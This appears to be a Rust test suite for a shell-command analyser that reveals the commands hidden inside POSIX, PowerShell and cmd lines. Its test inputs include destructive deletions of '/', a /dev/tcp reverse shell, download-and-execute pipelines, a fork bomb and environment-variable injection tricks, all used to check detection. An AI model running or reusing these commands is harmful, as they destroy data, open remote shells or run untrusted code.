    ("X=rm; (X=ls); $X T", &["rm T"]),
    ("X=ls; while a; do $X T; X=rm; done", &["a", "ls T", "rm T"]),
    ("unset X; ${X-rm} T", &["unset X", "rm T"]),
];

#[test]
fn data_is_not_run() {
    check(Dialect::Posix, DATA_IS_NOT_RUN);
}

const DATA_IS_NOT_RUN: &[Row] = &[
    ("echo \"rm -rf T\"", &["echo rm -rf T"]),
    ("echo rm -rf T", &["echo rm -rf T"]),
    ("echo 'ls; rm -rf T' > notes.txt", &["echo ls; rm -rf T"]),
    ("git commit -m \"rm -rf T\"", &["git commit -m rm -rf T"]),
    ("git commit -m 'fix: rm -rf T; $(rm -rf T)'", &["git commit -m fix: rm -rf T; $(rm -rf T)"]),
    ("grep -r 'rm -rf' .", &["grep -r rm -rf ."]),
    ("cat > x.sh <<'EOF'\nrm -rf T\nEOF", &["cat"]),
    ("printf 'rm -rf T\\n'", &["printf rm -rf T\\n"]),
    ("X='rm -rf T'", &[]),
    ("# rm -rf T", &[]),
    ("ls '; rm -rf T'", &["ls ; rm -rf T"]),
    ("ls \\; rm -rf T", &["ls ; rm -rf T"]),
    ("echo a\\&\\& rm -rf T", &["echo a&& rm -rf T"]),
    ("gh pr create --body \"run rm -rf T\"", &["gh pr create --body run rm -rf T"]),
    ("python -c 'print(1)'", &["python -c print(1)"]),
    ("node -e 'console.log(\"rm -rf T\")'", &["node -e console.log(\"rm -rf T\")"]),
    ("jq '.a | .b' f", &["jq .a | .b f"]),
    ("sed 's/a|b/c;d/' f", &["sed s/a|b/c;d/ f"]),
    ("awk '{print $1; print $2}' f", &["awk {print $1; print $2} f"]),
    ("ls *.txt | wc -l", &["ls *.txt", "wc -l"]),
    ("find . -name '*.py' | head", &["find . -name *.py", "head"]),
    ("test -f x && echo y", &["test -f x", "echo y"]),
    ("[ -f x ] && cat x", &["[ -f x ]", "cat x"]),
    ("diff <(ls a) <(ls b)", &["<(…) > ls a", "<(…) > ls b", "diff /dev/fd/63 /dev/fd/63"]),
    ("make CC=gcc all", &["make CC=gcc all"]),
    ("FOO=bar", &[]),
    ("kubectl get pods", &["kubectl get pods"]),
    ("docker ps", &["docker ps"]),
    ("git log --grep='rm -rf'", &["git log --grep=rm -rf"]),
    ("rm", &["rm"]),
];

#[test]
fn what_cannot_be_read_is_said() {
    check(Dialect::Posix, WHAT_CANNOT_BE_READ_IS_SAID);
}

const WHAT_CANNOT_BE_READ_IS_SAID: &[Row] = &[
    ("'unbalanced", &["unbalanced", "?Rejected"]),
    ("echo $(ls", &["$(…) > ls", "echo *", "?Rejected"]),
    ("( ls", &["ls", "?Rejected"]),
    ("cat <<EOF\nno end", &["cat", "?Unbalanced"]),
    ("if true; then ls", &["true", "ls", "?Rejected"]),
    ("fi; ls", &["ls", "?Rejected"]),
    ("echo )", &["echo", "?Rejected"]),
    ("foo (bar)", &["foo", "bar", "?Rejected"]),
];

#[test]
fn windows_shells_are_read_by_words() {
    check(Dialect::PowerShell, WINDOWS_SHELLS_ARE_READ_BY_WORDS_POWERSHELL);
    check(Dialect::Cmd, WINDOWS_SHELLS_ARE_READ_BY_WORDS_CMD);
}

const WINDOWS_SHELLS_ARE_READ_BY_WORDS_POWERSHELL: &[Row] = &[
    ("Remove-Item -Recurse -Force C:\\x; ls", &["Remove-Item -Recurse -Force C:\\x", "ls"]),
    ("Get-ChildItem | ForEach-Object { Remove-Item $_ }", &["Get-ChildItem", "Remove-Item ./*", "ForEach-Object $(…)"]),
    ("if ($x) { rm -r T }", &["rm -r T"]),
    ("\"rm T\"", &[]),
    ("& \"rm\" T", &["rm T"]),
    ("$x = 'rm'; & $x T", &["rm T"]),
    ("Write-Host \"$(Remove-Item T)\"", &["Remove-Item T", "Write-Host "]),
    ("iex \"rm T\"", &["iex rm T", "Invoke-Expression > rm T"]),
    ("iwr x | iex", &["iwr x", "iex", "?DownloadedCode"]),
    ("bash -c 'rm -rf T'", &["bash -c rm -rf T", "bash -c > rm -rf T"]),
    ("[IO.File]::Delete(\"T\")", &["Remove-Item -LiteralPath T"]),
];

const WINDOWS_SHELLS_ARE_READ_BY_WORDS_CMD: &[Row] = &[
    ("del /f T & dir", &["del /f T", "dir"]),
    ("if exist x rd /s /q T", &["rd /s /q T"]),
    ("for %i in (*) do del %i", &["del *"]),
    ("echo \"del T\"", &["echo del T"]),
    ("cmd /c \"del T\"", &["cmd /c del T", "cmd /c > del T"]),
];

#[test]
fn files_written_by_the_script_are_followed() {
    check(Dialect::Posix, FILES_WRITTEN_BY_THE_SCRIPT_ARE_FOLLOWED);
}

const FILES_WRITTEN_BY_THE_SCRIPT_ARE_FOLLOWED: &[Row] = &[
    ("echo 'rm -rf T' > a.sh; bash a.sh", &["echo rm -rf T", "bash a.sh", "bash > rm -rf T"]),
    (
        "cat > a.sh <<'EOF'\nrm -rf T\nEOF\nchmod +x a.sh\n./a.sh",
        &["cat", "chmod +x a.sh", "./a.sh", "./a.sh > rm -rf T"],
    ),
    (
        "{ echo ls; echo rm -rf T; } > a.sh && sh ./a.sh",
        &["echo ls", "echo rm -rf T", "sh ./a.sh", "sh > ls", "sh > rm -rf T"],
    ),
    ("echo rm -rf T | tee a.sh; source a.sh", &["echo rm -rf T", "tee a.sh", "source a.sh", "source > rm -rf T"]),
    ("curl x > a.sh; sh a.sh", &["curl x", "sh a.sh", "downloaded file > sh a.sh", "?PipedCode"]),
    ("curl -o a.sh x && bash a.sh", &["curl -o a.sh x", "bash a.sh", "downloaded file > bash a.sh", "?PipedCode"]),
    (
        "echo 'import os; os.system(\"rm -rf T\")' > a.py; python a.py",
        &["echo import os; os.system(\"rm -rf T\")", "python a.py", "python > rm -rf T"],
    ),
    ("cat a.sh | bash", &["cat a.sh", "bash"]),
    ("echo ls > b.sh; cp b.sh c.sh && sh c.sh", &["echo ls", "cp b.sh c.sh", "sh c.sh", "sh > ls"]),
    ("mkdir d; echo ls > d/a.sh; cd d && sh a.sh", &["mkdir d", "echo ls", "cd d", "sh a.sh", "sh > ls"]),
    (
        "wget https://x.y/i.sh; mv i.sh j.sh; chmod +x j.sh; ./j.sh",
        &["wget https://x.y/i.sh", "mv i.sh j.sh", "chmod +x j.sh", "./j.sh", "downloaded file > ./j.sh", "?PipedCode"],
    ),
    (
        "printf '#!/usr/bin/env python3\nimport os; os.system(\"ls\")' > a; chmod +x a; ./a",
        &["printf #!/usr/bin/env python3\nimport os; os.system(\"ls\")", "chmod +x a", "./a", "./a > ls"],
    ),
];

#[test]
fn more_ways_to_run_a_command() {
    check(Dialect::Posix, MORE_WAYS_TO_RUN_A_COMMAND);
}

const MORE_WAYS_TO_RUN_A_COMMAND: &[Row] = &[
    ("env - rm -rf T", &["env - rm -rf T", "env > rm -rf T"]),
    ("printf '/\\0' | xargs -0 rm -rf", &["printf /\\0", "xargs -0 rm -rf", "xargs > rm -rf /"]),
    ("bash -c \"$(cat <<'EOF'\nrm -rf T\nEOF\n)\"", &["$(…) > cat", "bash -c rm -rf T", "bash -c > rm -rf T"]),
    ("git commit -m \"$(cat <<'EOF'\ndon't rm -rf (T)\nEOF\n)\"", &["$(…) > cat", "git commit -m don't rm -rf (T)"]),
    ("sed '1e rm -rf T' f", &["sed 1e rm -rf T f", "sed e > rm -rf T"]),
    ("sed -e 's/a/e b/' f", &["sed -e s/a/e b/ f"]),
    ("PS4='$(rm -rf T)' bash -x a", &["bash -x a", "PS4= > $(…) > rm -rf T", "PS4= > : $(…)"]),
    ("export PROMPT_COMMAND='rm -rf T'", &["export PROMPT_COMMAND=rm -rf T", "PROMPT_COMMAND= > rm -rf T"]),
    (
        "BASH_ENV='$(rm -rf T)' bash -c :",
        &["bash -c :", "BASH_ENV= > $(…) > rm -rf T", "BASH_ENV= > : $(…)", "bash -c > :"],
    ),
    (": \"${x@P}\"", &[": ${x}", "?DynamicCode"]),
    ("printf -v 'a[$(rm -rf T)]' x", &["printf -v a[$(rm -rf T)] x", "?DynamicCode"]),
    ("echo x | tee >(sh)", &["echo x", ">(…) > sh", "tee /dev/fd/63", "?PipedCode"]),
    ("bash < /dev/tcp/1.2.3.4/80", &["bash", "?PipedCode"]),
    ("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", &["bash -i", "?PipedCode"]),
    ("sudo -s <<< 'rm -rf T'", &["sudo -s", "sudo > rm -rf T"]),
    ("sudo su -c 'rm -rf T'", &["sudo su -c rm -rf T", "sudo > su -c rm -rf T", "sudo > su -c > rm -rf T"]),
    ("sudo -i rm -rf T", &["sudo -i rm -rf T", "sudo > rm -rf T"]),
    ("eval $(echo rm -rf T)", &["$(…) > echo rm -rf T", "eval rm -rf T", "eval > rm -rf T"]),
    ("$(echo rm -rf T)", &["$(…) > echo rm -rf T", "rm -rf T"]),
    ("$(echo r)m -rf T", &["$(…) > echo r", "rm -rf T"]),
    ("echo -e 'rm\\x20-rf\\x20T' | sh", &["echo -e rm\\x20-rf\\x20T", "sh", "sh > rm -rf T"]),
    ("while read -r f; do rm -rf \"$f\"; done <<< \"/\"", &["read -r f", "rm -rf /"]),
    ("echo / | while read x; do rm -rf $x; done", &["echo /", "read x", "rm -rf /"]),
    (": ${X:=$(rm -rf T)}", &["$(…) > rm -rf T", ": $(…)"]),
    ("case $x in *) rm -rf T;; esac", &["rm -rf T"]),
    ("if ! rm -rf T; then ls; fi", &["rm -rf T", "ls"]),
    (
        "xargs sh -c 'rm -rf T' < f",
        &["xargs sh -c rm -rf T", "xargs > sh -c rm -rf T $(…)", "xargs > sh -c > rm -rf T"],
    ),
    (
        "docker run -i alpine sh <<EOF\nrm -rf T\nEOF",
        &["docker run -i alpine sh", "docker run > sh", "docker run > sh > rm -rf T"],
    ),
    ("=rm -rf T", &["=rm -rf T"]),
    ("- rm -rf T", &["- rm -rf T", "- > rm -rf T"]),
    ("repeat 3 rm -rf T", &["repeat 3 rm -rf T", "repeat > rm -rf T"]),
    ("and rm -rf T", &["and rm -rf T", "and > rm -rf T"]),
    ("Rscript -e 'system(\"rm -rf T\")'", &["Rscript -e system(\"rm -rf T\")", "Rscript -e > rm -rf T"]),
    ("ruby -e 'exec \"rm\", \"-rf\", \"T\"'", &["ruby -e exec \"rm\", \"-rf\", \"T\"", "ruby -e > rm -rf T"]),
];

#[test]
fn everyday_lines_hold_nothing_more() {
    check(Dialect::Posix, EVERYDAY_LINES_HOLD_NOTHING_MORE);
}

const EVERYDAY_LINES_HOLD_NOTHING_MORE: &[Row] = &[
    ("git log --format='%h %s' | head -5", &["git log --format=%h %s", "head -5"]),
    ("for f in *.txt; do echo \"$f\"; done", &["echo *.txt"]),
    (
        "docker ps -q | xargs docker inspect --format '{{.Name}}'",
        &["docker ps -q", "xargs docker inspect --format {{.Name}}", "xargs > docker inspect --format {{.Name}} $(…)"],
    ),
    ("echo \"a; b\" | tr ';' '\n'", &["echo a; b", "tr ; \n"]),
    ("npm run build && npm test", &["npm run build", "npm test"]),
    ("cargo test -- --nocapture", &["cargo test -- --nocapture"]),
    ("export PATH=\"$HOME/bin:$PATH\"", &["export PATH=$HOME/bin:$PATH"]),
    ("PATH=/x:$PATH make", &["make"]),
    ("x=$(date +%s); echo $x", &["$(…) > date +%s", "echo $(date)"]),
    ("ls -la | grep \"^d\" | awk '{print $9}'", &["ls -la", "grep ^d", "awk {print $9}"]),
    (
        "find . -type f -not -path './.git/*' -print0 | xargs -0 grep -l foo",
        &["find . -type f -not -path ./.git/* -print0", "xargs -0 grep -l foo", "xargs > grep -l foo ./**"],
    ),
    ("test \"$(id -u)\" -eq 0 || exit 1", &["$(…) > id -u", "test $(id) -eq 0", "exit 1"]),
    ("cd \"$(git rev-parse --show-toplevel)\" && ls", &["$(…) > git rev-parse --show-toplevel", "cd $(…)", "ls"]),
    ("python3 - <<'EOF'\nimport json\nprint(json.load(open(\"x.json\")))\nEOF", &["python3 -"]),
    ("printf '%s\n' \"${arr[@]}\"", &["printf %s\n ${arr}"]),
    ("echo $((x + 1)) $(( (a+b)*2 ))", &["echo $((…)) $((…))"]),
    ("cat <<EOF > x\n$HOME `date`\nEOF", &["`…` > date", "cat"]),
    ("a=1 b=2\necho $a", &["echo 1"]),
    ("kill -9 $(pgrep foo)", &["$(…) > pgrep foo", "kill -9 $(…)"]),
    (
        "curl -s https://x.y/z | jq -r '.[] | select(.a==\"b\") | .c'",
        &["curl -s https://x.y/z", "jq -r .[] | select(.a==\"b\") | .c"],
    ),
    ("diff <(sort a) <(sort b)", &["<(…) > sort a", "<(…) > sort b", "diff /dev/fd/63 /dev/fd/63"]),
    ("[ \"$a\" = \"rm -rf T\" ] && echo same", &["[ $a = rm -rf T ]", "echo same"]),
    ("echo 'a' \"b\" c\\ d", &["echo a b c d"]),
    ("(cd x && ls) || true", &["cd x", "ls", "true"]),
    ("git diff HEAD~1 -- '*.rs' | head", &["git diff HEAD~1 -- *.rs", "head"]),
    ("ssh -T git@github.com", &["ssh -T git@github.com"]),
    ("docker build -t x . && docker run -p 80:80 x", &["docker build -t x .", "docker run -p 80:80 x"]),
    ("awk 'NR==1{print; exit}' f", &["awk NR==1{print; exit} f"]),
    ("jq '.a as $x | .b' f", &["jq .a as $x | .b f"]),
    ("perl -pe 's/\\$\\(rm -rf T\\)/x/' f", &["perl -pe s/\\$\\(rm -rf T\\)/x/ f"]),
    (
        "tmux new-session -d -s x 'npm run dev'",
        &["tmux new-session -d -s x npm run dev", "tmux new-session > npm run dev"],
    ),
    ("set -euo pipefail; cd x; make", &["set -euo pipefail", "cd x", "make"]),
    ("if command -v node >/dev/null 2>&1; then node -v; fi", &["command -v node", "node -v"]),
    ("read -p \"continue? \" ans", &["read -p continue?  ans"]),
    ("cd /path && git status && git diff | head -50", &["cd /path", "git status", "git diff", "head -50"]),
    (
        "gh pr create --title \"x\" --body \"$(cat <<'EOF'\n## Summary\n- it's (a) `b` $(c)\nEOF\n)\"",
        &["$(…) > cat", "gh pr create --title x --body ## Summary\n- it's (a) `b` $(c)"],
    ),
    (
        "node -e \"const a = `x`; console.log(JSON.stringify(require('./package.json').scripts, null, 2))\"",
        &[
            "`…` > x",
            "node -e const a = $(…); console.log(JSON.stringify(require('./package.json').scripts, null, 2))",
            "?DynamicCode",
        ],
    ),
    (
        "node -e 'const fs=require(\"fs\"); const m=/a(b)\\/c/.exec(\"x\"); console.log(m && m[1])'",
        &["node -e const fs=require(\"fs\"); const m=/a(b)\\/c/.exec(\"x\"); console.log(m && m[1])"],
    ),
    (
        "python3 -c \"\nimport sys, re\nfor l in sys.stdin:\n    m = re.match(r'(\\d+)', l)\n    print(m.group(1) if m else '')\n\"",
        &[
            "python3 -c \nimport sys, re\nfor l in sys.stdin:\n    m = re.match(r'(\\d+)', l)\n    print(m.group(1) if m else '')\n",
        ],
    ),
    (
        "for i in $(seq 1 5); do curl -s \"localhost:$i\"; done",
        &[
            "$(…) > seq 1 5",
            "curl -s localhost:1",
            "curl -s localhost:2",
            "curl -s localhost:3",
            "curl -s localhost:4",
            "curl -s localhost:5",
        ],
    ),
    ("echo \"Done\" ; sleep 5 & wait", &["echo Done", "sleep 5", "wait"]),
    ("sed -n '1,50p' file; awk '/a/{f=1} f' x", &["sed -n 1,50p file", "awk /a/{f=1} f x"]),
    ("grep -E \"(a|b)\\$\" f; grep -P '\\d+(?=x)' f", &["grep -E (a|b)$ f", "grep -P \\d+(?=x) f"]),
    ("ls ${DIR}/*.ts 2>/dev/null || echo none", &["ls ${DIR}/*.ts", "echo none"]),
    (
        "export FOO=$(cat .env | grep X | cut -d= -f2)",
        &["$(…) > cat .env", "$(…) > grep X", "$(…) > cut -d= -f2", "export FOO=$(…)"],
    ),
    ("jq -n --arg x \"$X\" '{a:$x}'", &["jq -n --arg x $X {a:$x}"]),
    ("curl -H \"Authorization: Bearer $TOKEN\" https://x.y", &["curl -H Authorization: Bearer $TOKEN https://x.y"]),
    (
        "docker run --rm -it -v \"$(pwd)\":/app -w /app node:18 npm test",
        &["$(…) > pwd", "docker run --rm -it -v $PWD:/app -w /app node:18 npm test", "docker run > npm test"],
    ),
    (
        "find . -name \"*.ts\" | xargs sed -i 's/a/b/g'",
        &["find . -name *.ts", "xargs sed -i s/a/b/g", "xargs > sed -i s/a/b/g ./**/*.ts"],
    ),
    ("kill $(lsof -t -i:3000)", &["$(…) > lsof -t -i:3000", "kill $(…)"]),
    ("while ! curl -s localhost:3000; do sleep 1; done", &["curl -s localhost:3000", "sleep 1"]),
    ("(npm run dev > /tmp/log 2>&1 &)", &["npm run dev"]),
    ("[[ \"$x\" =~ ^[0-9]+$ ]] && echo num", &["echo num"]),
    ("[[ $x =~ (a|b)\" c\" ]] && echo num", &["echo num"]),
    ("if [[ -n \"${VAR:-}\" && ! -f x ]]; then echo y; fi", &["echo y"]),
    ("case \"$1\" in start|stop) ;; *) echo \"usage\" ;; esac", &["echo usage"]),
    ("arr=(a b c); for i in \"${arr[@]}\"; do echo \"$i\"; done", &["echo a", "echo b", "echo c"]),
    ("printf \"%-10s|%5d\n\" a 1", &["printf %-10s|%5d\n a 1"]),
    ("cat file | while IFS= read -r line; do echo \"$line\"; done", &["cat file", "read -r line", "echo $line"]),
    (
        "foo() { local a=\"$1\"; shift; echo \"$a\" \"$@\"; }; foo x y z",
        &["foo x y z", "foo() > local a=x", "foo() > shift", "foo() > echo x y z"],
    ),
    ("x=${1:-default}; y=${x%.txt}; z=${x##*/}; echo $y $z ${#x} ${x^^}", &["echo default default 7 DEFAULT"]),
    (
        "echo \"${BASH_SOURCE[0]}\" \"$(dirname \"${BASH_SOURCE[0]}\")\"",
        &["$(…) > dirname ${BASH_SOURCE}", "echo ${BASH_SOURCE} $(…)"],
    ),
    (
        "SCRIPT_DIR=\"$(cd \"$(dirname \"$0\")\" && pwd)\"; cat \"$SCRIPT_DIR/x\"",
        &["$(…) > $(…) > dirname $0", "$(…) > cd $(…)", "$(…) > pwd", "cat $(…)/x"],
    ),
    ("./gradlew build --no-daemon | tee build.log", &["./gradlew build --no-daemon", "tee build.log"]),
    ("ENV=prod npm run deploy -- --dry-run", &["npm run deploy -- --dry-run"]),
    (
        "sudo apt-get update && sudo apt-get install -y curl",
        &[
            "sudo apt-get update",
            "sudo > apt-get update",
            "sudo apt-get install -y curl",
            "sudo > apt-get install -y curl",
        ],
    ),
    (
        "ssh user@host \"cd /app && git pull && systemctl restart app\"",
        &[
            "ssh user@host cd /app && git pull && systemctl restart app",
            "ssh > cd /app",
            "ssh > git pull",
            "ssh > systemctl restart app",
        ],
    ),
    ("rsync -avz --exclude node_modules ./ user@host:/app/", &["rsync -avz --exclude node_modules ./ user@host:/app/"]),
    ("tar -xzf a.tar.gz -C /tmp && rm a.tar.gz", &["tar -xzf a.tar.gz -C /tmp", "rm a.tar.gz"]),
    ("psql \"$DATABASE_URL\" -c \"SELECT 1;\"", &["psql $DATABASE_URL -c SELECT 1;"]),
    ("mysql -u root -p\"$PW\" -e \"show tables\"", &["mysql -u root -p$PW -e show tables"]),
    (
        "watch -n 5 'kubectl get pods | grep x'",
        &["watch -n 5 kubectl get pods | grep x", "watch > kubectl get pods", "watch > grep x"],
    ),
    ("timeout 30 npm test || true", &["timeout 30 npm test", "timeout > npm test", "true"]),
    ("pkill -f \"node server\" || true", &["pkill -f node server", "true"]),
    ("test -d node_modules || npm ci", &["test -d node_modules", "npm ci"]),
    ("echo $((1+2)) $[3+4]", &["echo $((…)) $((…))"]),
    (
        "git log --oneline | awk '{print $1}' | xargs -n1 git show --stat",
        &["git log --oneline", "awk {print $1}", "xargs -n1 git show --stat", "xargs > git show --stat $(…)"],
    ),
    ("git rebase -i HEAD~3 --autosquash", &["git rebase -i HEAD~3 --autosquash"]),
    ("GIT_SEQUENCE_EDITOR=: git rebase -i HEAD~2", &["git rebase -i HEAD~2", "GIT_SEQUENCE_EDITOR= > :"]),
    ("EDITOR=true git commit --amend", &["git commit --amend", "EDITOR= > true"]),
    (
        "git stash && git checkout main && git pull --rebase && git stash pop",
        &["git stash", "git checkout main", "git pull --rebase", "git stash pop"],
    ),
    ("comm -23 <(sort a) <(sort b)", &["<(…) > sort a", "<(…) > sort b", "comm -23 /dev/fd/63 /dev/fd/63"]),
    ("exec \"$@\"", &["exec"]),
    ("eval \"$(ssh-agent -s)\"", &["$(…) > ssh-agent -s", "eval "]),
    ("source ~/.nvm/nvm.sh && nvm use 18", &["source ~/.nvm/nvm.sh", "nvm use 18"]),
    (
        ". venv/bin/activate && pip install -r requirements.txt",
        &[". venv/bin/activate", "pip install -r requirements.txt"],
    ),
    (
        "python -m venv .venv && .venv/bin/pip install x",
        &["python -m venv .venv", "python -m > venv .venv", ".venv/bin/pip install x"],
    ),
    ("make -j$(nproc)", &["$(…) > nproc", "make -j$(nproc)"]),
    ("if [ $? -ne 0 ]; then exit 1; fi", &["[ $? -ne 0 ]", "exit 1"]),
    ("cat <<EOF | kubectl apply -f -\napiVersion: v1\nkind: Pod\nEOF", &["cat", "kubectl apply -f -"]),
    ("cat << 'EOF' > test.py\ndef f(x):\n    return {\"a\": 'b'}\nEOF\npython3 test.py", &["cat", "python3 test.py"]),
    ("cat <<EOF\n\"quotes' and `date` and $(date)\nEOF", &["`…` > date", "$(…) > date", "cat"]),
    (
        "ls -la; echo \"---\"; cat package.json | head -20; echo '---'",
        &["ls -la", "echo ---", "cat package.json", "head -20", "echo ---"],
    ),
    (
        "time cargo build --release 2>&1 | tail -5",
        &["time cargo build --release", "time > cargo build --release", "tail -5"],
    ),
    ("RUST_LOG=debug cargo run -- --flag \"a b\"", &["cargo run -- --flag a b"]),
    (
        "npx tsc --noEmit && npx eslint . --ext .ts",
        &["npx tsc --noEmit", "npx > tsc --noEmit", "npx eslint . --ext .ts", "npx > eslint . --ext .ts"],
    ),
    ("bash -lc 'nvm use && npm test'", &["bash -lc nvm use && npm test", "bash -c > nvm use", "bash -c > npm test"]),
    (
        "bash -c 'for i in 1 2; do echo $i; done'",
        &["bash -c for i in 1 2; do echo $i; done", "bash -c > echo 1", "bash -c > echo 2"],
    ),
    ("sh ./install.sh --prefix=/usr/local", &["sh ./install.sh --prefix=/usr/local"]),
    (
        "echo '{\"a\":1}' | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
        &["echo {\"a\":1}", "python3 -c import json,sys; print(json.load(sys.stdin)[\"a\"])"],
    ),
    ("echo \"select 1\" | sqlite3 db", &["echo select 1", "sqlite3 db"]),
    ("echo y | npm init", &["echo y", "npm init"]),
    ("yes | apt install x", &["yes", "apt install x"]),
    ("printf 'a\\nb\\n' | sort -u", &["printf a\\nb\\n", "sort -u"]),
    ("set -x; shopt -s globstar; ulimit -n 1024", &["set -x", "shopt -s globstar", "ulimit -n 1024"]),
    ("rm -rf node_modules dist && npm i", &["rm -rf node_modules dist", "npm i"]),
    ("! grep -q foo bar && echo missing", &["grep -q foo bar", "echo missing"]),
    ("a=$'x\\ty'; b=\"it's\"; c='say \"hi\"'; echo \"$a$b$c\"", &["echo x\tyit'ssay \"hi\""]),
    ("echo \\$HOME \\\"x\\\" \\\\", &["echo $HOME \"x\" \\"]),
    ("echo \"a\\\"b\" 'c'\\''d'", &["echo a\"b c'd"]),
    ("ls *.{js,ts} src/**/*.rs", &["ls *.js *.ts src/**/*.rs"]),
    ("echo {1..5} {a..c}{1,2}", &["echo 1 2 3 4 5 a1 a2 b1 b2 c1 c2"]),
    ("diff -u <(git show HEAD:a) a", &["<(…) > git show HEAD:a", "diff -u /dev/fd/63 a"]),
    (
        "tmux send-keys -t 0 'npm start' Enter",
        &["tmux send-keys -t 0 npm start Enter", "tmux send-keys > npm start Enter"],
    ),
    ("crontab -l", &["crontab -l"]),
    ("at -l", &["at -l"]),
    (
        "parallel echo ::: 1 2 3",
        &["parallel echo ::: 1 2 3", "parallel > echo 1", "parallel > echo 2", "parallel > echo 3"],
    ),
    (": \"${VAR:?must be set}\"", &[": ${VAR}"]),
    ("read -r -d '' X <<'EOF'\nhello \"world\"\nEOF", &["read -r -d  X"]),
    (
        "while read -r a b; do echo \"$b\"; done <<< \"$(git branch)\"",
        &["$(…) > git branch", "read -r a b", "echo $(…)"],
    ),
    (
        "trap cleanup EXIT; cleanup() { rm -f /tmp/x; }",
        &["trap cleanup EXIT", "trap > cleanup", "cleanup() > rm -f /tmp/x"],
    ),
    ("coproc cat", &["cat"]),
    ("{ echo a; echo b; } > out.txt", &["echo a", "echo b"]),
    ("echo a >&2; echo b 1>&2 2>/dev/null", &["echo a", "echo b"]),
    ("3>&1 echo x", &["echo x"]),
    ("ls | grep -v '^#' # comment with ' quote", &["ls", "grep -v ^#"]),
    ("echo a#b c #d", &["echo a#b c"]),
    ("perl -pi -e 's/(\\w+)@(\\w+)/$1 at $2/g; s|x|y|' f", &["perl -pi -e s/(\\w+)@(\\w+)/$1 at $2/g; s|x|y| f"]),
    ("perl -ne 'print if /foo/ && !/bar/' f", &["perl -ne print if /foo/ && !/bar/ f"]),
    ("ruby -e 'puts [1,2].map { |x| x + 1 }'", &["ruby -e puts [1,2].map { |x| x + 1 }"]),
    ("php -r 'echo \"a\";'", &["php -r echo \"a\";"]),
    (
        "lsof -i :3000 | awk 'NR>1 {print $2}' | xargs -r kill",
        &["lsof -i :3000", "awk NR>1 {print $2}", "xargs -r kill", "xargs > kill $(…)"],
    ),
    (
        "ps aux | grep node | grep -v grep | awk '{print $2}'",
        &["ps aux", "grep node", "grep -v grep", "awk {print $2}"],
    ),
    (
        "awk -F, '$3 > 10 { sum += $2 } END { print sum > \"/dev/stderr\" }' f",
        &["awk -F, $3 > 10 { sum += $2 } END { print sum > \"/dev/stderr\" } f"],
    ),
    ("go test ./... -run 'TestA|TestB' -v", &["go test ./... -run TestA|TestB -v"]),
    (
        "xcodebuild -scheme \"A B\" -destination 'platform=iOS Simulator,name=iPhone 15' | xcpretty",
        &["xcodebuild -scheme A B -destination platform=iOS Simulator,name=iPhone 15", "xcpretty"],
    ),
    ("open -a \"Visual Studio Code\" .", &["open -a Visual Studio Code ."]),
    ("python3 manage.py shell -c \"print(1)\"", &["python3 manage.py shell -c print(1)"]),
    ("aws s3 ls s3://b/ --recursive | wc -l", &["aws s3 ls s3://b/ --recursive", "wc -l"]),
    (
        "terraform plan -out=tf.plan && terraform show -json tf.plan | jq .",
        &["terraform plan -out=tf.plan", "terraform show -json tf.plan", "jq ."],
    ),
    (
        "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
        &["kubectl get pods -o jsonpath={.items[*].metadata.name}"],
    ),
    (
        "helm upgrade --install x ./chart -f values.yaml --set a=b",
        &["helm upgrade --install x ./chart -f values.yaml --set a=b"],
    ),
    (
        "sleep 2 && curl -sf http://localhost:8080/health | jq -e '.status == \"ok\"' > /dev/null && echo up",
        &["sleep 2", "curl -sf http://localhost:8080/health", "jq -e .status == \"ok\"", "echo up"],
    ),
];

#[test]
fn calls_and_loops_are_followed() {
    check(Dialect::Posix, CALLS_AND_LOOPS_ARE_FOLLOWED);
}

const CALLS_AND_LOOPS_ARE_FOLLOWED: &[Row] = &[
    (
        "f(){ if a; then rm -rf \"$2\"; else f x /; fi; }; f",
        &["f", "f() > a", "f() > rm -rf ", "f() > f x /", "f() > f() > a", "f() > f() > rm -rf /", "f() > f() > f x /"],
    ),
    (
        "f(){ while [ $# -gt 0 ]; do rm -rf \"$1\"; shift; done; }; f a /",
        &[
            "f a /",
            "f() > [ 2 -gt 0 ]",
            "f() > rm -rf a",
            "f() > shift",
            "f() > [ 1 -gt 0 ]",
            "f() > rm -rf /",
            "f() > shift",
        ],
    ),
    ("f(){ for x in \"$@\"; do rm -rf \"$x\"; done; }; f a /", &["f a /", "f() > rm -rf a", "f() > rm -rf /"]),
    ("f(){ for x; do rm -rf \"$x\"; done; }; f a /", &["f a /", "f() > rm -rf a", "f() > rm -rf /"]),
    ("perf stat -e x rm -rf T", &["perf stat -e x rm -rf T", "perf > rm -rf T"]),
    (
        ":(){ :|:& };:",
        &[
            ":",
            ":() > :",
            ":() > :() > :",
            ":() > :() > :",
            ":() > :",
            ":() > :() > :",
            ":() > :() > :",
            "?EndlessProcesses",
        ],
    ),
    ("f(){ g \"$@\"; }; g(){ rm -rf \"$1\"; }; f /", &["f /", "f() > g /", "f() > g() > rm -rf /"]),
    ("while a; do rm x; done", &["a", "rm x"]),
    ("X=ls; while a; do $X; X=rm; done", &["a", "ls", "rm"]),
    ("set -- a b; while b; do rm \"$1\"; shift; done", &["set -- a b", "b", "rm a", "shift", "b", "rm b", "shift"]),
];

#[test]
fn inputs_of_builtins_are_followed() {
    check(Dialect::Posix, INPUTS_OF_BUILTINS_ARE_FOLLOWED);
}

const INPUTS_OF_BUILTINS_ARE_FOLLOWED: &[Row] = &[
    (
        "read -r -d '' X <<'EOF'\nls\nrm -rf T\nEOF\neval \"$X\"",
        &["read -r -d  X", "eval ls\nrm -rf T", "eval > ls", "eval > rm -rf T"],
    ),
    ("IFS=, read a b <<< 'rm,T'; $a $b", &["read a b", "rm T"]),
    ("read -n 3 X <<< 'rm T'; $X", &["read -n 3 X", "$(…)", "?DynamicProgram"]),
    ("read A B <<< 'rm -rf T'; $A $B", &["read A B", "rm -rf T"]),
    ("mapfile X < f; ${X[0]}", &["mapfile X", "$(…)", "?DynamicProgram"]),
    ("((rm -rf T))", &["rm -rf T"]),
    ("((i++))", &[]),
];
